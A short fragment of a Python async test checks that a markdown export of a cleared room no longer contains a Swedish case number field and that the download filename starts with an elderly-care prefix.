    cleared = await export(http, room, "md")
    assert "Diarienummer" not in cleared.text
    assert 'filename="aldreomsorgen-amal-' in cleared.headers["content-disposition"]
